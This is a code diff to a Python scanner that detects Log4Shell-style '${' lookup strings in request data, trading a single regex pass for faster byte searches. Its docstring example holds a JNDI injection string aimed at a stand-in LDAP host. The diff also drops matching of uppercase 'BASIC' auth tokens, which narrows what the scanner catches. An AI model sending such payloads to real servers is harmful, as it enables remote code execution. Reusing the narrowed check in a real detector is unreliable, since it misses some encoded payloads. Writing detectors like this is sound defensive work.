@@ -63,8 +63,7 @@ _TRIGGER_SOURCE = (
 )
 #: Matches a raw line that may hold ``${`` after decoding (base64 aside).
 TRIGGER = re.compile(_TRIGGER_SOURCE)
-_TRIGGER_OR_BASIC = re.compile(_TRIGGER_SOURCE + rb"|(?:[Bb]asic|BASIC)[ \t]")
-_BASIC_TOKEN = re.compile(rb"(?:[Bb]asic|BASIC)[ \t]+([A-Za-z0-9+/_-]{4,}={0,3})")
+_BASIC_TOKEN = re.compile(rb"[Bb]asic[ \t]+([A-Za-z0-9+/_-]{4,}={0,3})")
 _MAX_BASE64_NESTING = 2
 
 
@@ -81,9 +80,13 @@ def may_contain_lookup(data: bytes) -> bool:
 
 
 def _check(data: bytes, nesting: int) -> bool:
-    if TRIGGER.search(data) is not None:
+    # Every trigger starts with one of these bytes; `in` on one byte runs at
+    # memchr speed, so a clean record costs four short scans.
+    if b"$" in data and b"${" in data:
         return True
-    if b"asic" not in data and b"ASIC" not in data:
+    if (b"%" in data or b"\\" in data or b"&" in data) and TRIGGER.search(data):
+        return True
+    if b"asic" not in data:
         return False
 
     return _basic_may_contain(data, nesting)
@@ -105,37 +108,51 @@ def _basic_may_contain(data: bytes, nesting: int) -> bool:
 def find_candidates(buffer: bytes) -> list[int]:
     """0-based indices of the lines of ``buffer`` that may hold a lookup.
 
-    Agrees with :func:`may_contain_lookup` line by line; one regex scan over the
-    whole buffer does the work, so clean lines cost no Python code at all.
+    Lines are separated by ``\\n``. Agrees with :func:`may_contain_lookup` line by
+    line. Byte searches (memchr speed) find the few lines holding ``${``, ``%``,
+    ``\\``, ``&`` or ``asic``; only those lines see a regex or any Python code.
 
     Example:
         >>> find_candidates(b"GET / HTTP/1.1\\nGET /${jndi:ldap://example.com/a}\\n")
         [1]
     """
-    found: list[int] = []
-    search = _TRIGGER_OR_BASIC.search
-    count = buffer.count
+    size = len(buffer)
+    find = buffer.find
+    rfind = buffer.rfind
+    # line start -> (first interesting byte, line end), for lines that have one
+    spans: dict[int, tuple[int, int]] = {}
+    for needle in (b"$", b"%", b"\\", b"&", b"asic"):
+        pos = 0
+        while True:
+            hit = find(needle, pos)
+            if hit < 0:
+                break
+            start = rfind(b"\n", 0, hit) + 1
+            end = find(b"\n", hit)
+            if end < 0:
+                end = size
+            known = spans.get(start)
+            if known is None or hit < known[0]:
+                spans[start] = (hit, end)
+            pos = end + 1
+    found_starts = []
+    search = TRIGGER.search
+    for start in sorted(spans):
+        first, end = spans[start]
+        # No trigger can begin before the line's first $ % \\ & byte.
+        if (
+            find(b"${", first, end) >= 0
+            or search(buffer, first, end) is not None
+            or (find(b"asic", start, end) >= 0 and _check(buffer[start:end], 0))
+        ):
+            found_starts.append(start)
+    indices = []
     line = 0
-    counted_to = 0
-    pos = 0
-    while True:
-        match = search(buffer, pos)
-        if match is None:
-            break
-        start = match.start()
-        line += count(b"\n", counted_to, start)
-        counted_to = start
-        line_end = buffer.find(b"\n", start)
-        if line_end < 0:
-            line_end = len(buffer)
-        if buffer[start] not in b"Bb":
-            found.append(line)
-        else:
-            line_start = buffer.rfind(b"\n", 0, start) + 1
-            if _check(buffer[line_start:line_end], 0):
-                found.append(line)
-        pos = line_end + 1
-        if pos >= len(buffer):
-            break
+    previous = 0
+    count = buffer.count
+    for start in found_starts:
+        line += count(b"\n", previous, start)
+        previous = start
+        indices.append(line)
 
-    return found
+    return indices
